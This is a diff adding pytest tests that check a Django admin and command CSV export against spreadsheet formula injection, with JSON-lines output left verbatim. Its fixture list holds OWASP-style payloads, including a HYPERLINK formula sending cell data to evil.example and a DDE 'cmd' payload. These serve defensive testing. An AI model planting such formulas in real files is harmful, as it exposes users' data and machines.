@@ -87,3 +87,47 @@ def test_the_admin_exports_the_selected_entries(logged, admin_client) -> None:
     assert response["Content-Type"] == "application/x-ndjson"
     body = b"".join(response.streaming_content).decode()
     assert [json.loads(line)["at_ms"] for line in body.splitlines()] == [logged + 1, logged + 2]
+
+
+# What a spreadsheet would run as a formula, as a customer and as a counter key (OWASP's CSV injection list):
+# = + - @ and a leading tab or carriage return, which a spreadsheet drops before it looks for the formula.
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1",
+            "\r=1+1")  # fmt: skip
+
+
+@pytest.fixture
+def formulas_logged(redis_client, key_prefix) -> int:
+    """One decision per formula, whose customer and counter key are that formula; drained into PostgreSQL."""
+    start = minute_ms(dt.datetime.now(dt.UTC)) - 30 * 60_000
+    entries = [{**decision(start + n, customer=text), "k": text} for n, text in enumerate(FORMULAS)]
+    write(redis_client, key_prefix, *entries)
+    drain(redis_client, key_prefix)
+    return start
+
+
+def csv_cells(text: str) -> list[tuple[str, str]]:
+    return [(row["customer"], row["key"]) for row in csv.DictReader(io.StringIO(text, newline=""))]
+
+
+def test_the_command_writes_a_would_be_formula_with_a_quote_in_front(formulas_logged) -> None:
+    text, _ = export(formulas_logged, "csv")
+
+    assert csv_cells(text) == [("'" + formula, "'" + formula) for formula in FORMULAS]
+
+
+def test_the_admin_action_writes_a_would_be_formula_with_a_quote_in_front(formulas_logged, admin_client) -> None:
+    response = admin_client.post(
+        "/admin/quality/decisionevent/",
+        {"action": "export_csv", "_selected_action": list(DecisionEvent.objects.values_list("pk", flat=True))},
+    )
+
+    assert response.status_code == 200
+    assert csv_cells(b"".join(response.streaming_content).decode()) == [
+        ("'" + formula, "'" + formula) for formula in FORMULAS
+    ]
+
+
+def test_json_lines_keep_a_would_be_formula_verbatim(formulas_logged) -> None:
+    text, _ = export(formulas_logged, "jsonl")
+
+    assert [json.loads(line)["customer"] for line in text.splitlines()] == list(FORMULAS)
